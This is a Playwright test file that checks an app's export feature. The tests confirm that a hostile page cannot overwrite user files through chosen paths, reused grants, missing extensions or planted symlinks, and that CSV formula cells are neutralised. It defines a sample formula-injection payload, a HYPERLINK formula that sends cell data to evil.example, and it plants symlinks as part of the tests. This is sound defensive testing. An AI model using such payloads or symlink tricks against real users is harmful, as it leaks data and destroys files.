// A hostile page tries to make an export overwrite a file of the user's (issue 11, item 2): a dotfile in a folder
// the user chose, a file exported to before, a save-dialog answer without the format's extension, a symlink planted
// where the temp file used to be predictable. An export writes only the exact file the save dialog just returned,
// once, with the format's extension; cells a spreadsheet would run as formulas arrive as text.
import { test, expect } from '@playwright/test'
import { randomUUID } from 'node:crypto'
import { readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expectCleanError, useBridgeEnv } from './fixtures'

const env = useBridgeEnv({ presetCredentials: true })
const T = randomUUID()
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")' // what a hostile gateway could answer as the message
const BASHRC = 'export PATH=$HOME/bin:$PATH # the user\'s own\n'

async function refused(args: unknown, code: string): Promise<void> {
  const e = env()
  expect(expectCleanError(await e.invokeAny('tasks:export', args), e.sim.secret)).toMatchObject({ code })
}

test.beforeAll(() => {
  env().sim.addTask({ id: T, finalStatus: 'failed', failMessage: FORMULA, images: 1 })
})

test('setup: a failed task whose message is a spreadsheet formula', async () => {
  const e = env()
  await e.recordEvents()
  await e.value('tasks:add', { text: T })
  await e.waitForEvent('task:updated', (t) => t.taskId === T && t.displayStatus === 'failed')
})

test('a path from the page is refused, even in a folder the user chose', async () => {
  const e = env()
  const home = await e.chosenDir('home') // e.g. the user once picked their home folder for downloads
  const bashrc = join(home, '.bashrc')
  writeFileSync(bashrc, BASHRC)
  await refused({ format: 'csv', path: bashrc }, 'EXPORT_PATH_NOT_CHOSEN')
  await refused({ format: 'csv', path: join(home, 'tasks.csv') }, 'EXPORT_PATH_NOT_CHOSEN')
  expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC)
  expect(readdirSync(home)).toEqual(['.bashrc'])
})

test('the save dialog grants its one file, once: not the file again, not its folder', async () => {
  const e = env()
  const folder = e.dir('exports')
  const file = join(folder, 'tasks.csv')
  expect(await e.exportTo(file, { format: 'csv' })).toEqual({ path: file, count: 1 })
  const written = readFileSync(file, 'utf8')

  await refused({ format: 'csv', path: file }, 'EXPORT_PATH_NOT_CHOSEN')
  await refused({ format: 'json', path: join(folder, 'other.json') }, 'EXPORT_PATH_NOT_CHOSEN')
  const download = expectCleanError(await e.invokeAny('downloads:start', { folder, taskIds: [T] }), e.sim.secret)
  expect(download).toMatchObject({ kind: 'forbidden', code: 'FOLDER_NOT_CHOSEN' })
  const setting = expectCleanError(await e.invokeAny('settings:update', { downloads: { folder } }), e.sim.secret)
  expect(setting).toMatchObject({ code: 'FOLDER_NOT_CHOSEN' })
  expect(readFileSync(file, 'utf8')).toBe(written)
  expect(readdirSync(folder)).toEqual(['tasks.csv'])
})

test("a save-dialog answer without the format's extension writes nothing", async () => {
  const e = env()
  const home = join(e.root, 'home')
  for (const [format, name] of [['csv', '.bashrc'], ['csv', 'tasks.json'], ['json', 'tasks.csv'], ['json', 'notes']] as const) {
    e.harness.dialogs.nextSaveFile = join(home, name)
    await refused({ format }, 'EXPORT_EXTENSION')
  }
  e.harness.dialogs.nextSaveFile = null
  expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe(BASHRC)
  expect(readdirSync(home)).toEqual(['.bashrc'])
})

test('symlinks planted in the folder are never written through', async () => {
  const e = env()
  const folder = e.dir('shared')
  const victim = join(e.dir('victim'), 'precious.txt')
  writeFileSync(victim, 'precious')
  // where the temp file of an export to shared/tasks.csv used to be (its name had only the process id in it)
  symlinkSync(victim, join(folder, `.tasks.csv.${process.pid}.part`))
  // and the chosen name itself a link: the export replaces the link, the file it pointed to stays
  symlinkSync(victim, join(folder, 'tasks.csv'))
  expect(await e.exportTo(join(folder, 'tasks.csv'), { format: 'csv' })).toMatchObject({ count: 1 })
  expect(readFileSync(victim, 'utf8')).toBe('precious')
  expect(readFileSync(join(folder, 'tasks.csv'), 'utf8')).toMatch(/^taskId,/)
  expect(readdirSync(folder).sort()).toEqual([`.tasks.csv.${process.pid}.part`, 'tasks.csv'])
})

test('cells a spreadsheet would run as formulas are exported as text', async () => {
  const e = env()
  const file = join(e.dir('formulas'), 'tasks.csv')
  await e.exportTo(file, { format: 'csv' })
  const csv = readFileSync(file, 'utf8')
  expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`)
  for (const cell of csv.split(/[,\r\n]+/)) expect(cell, cell).not.toMatch(/^"?[=+\-@\t]/)
})
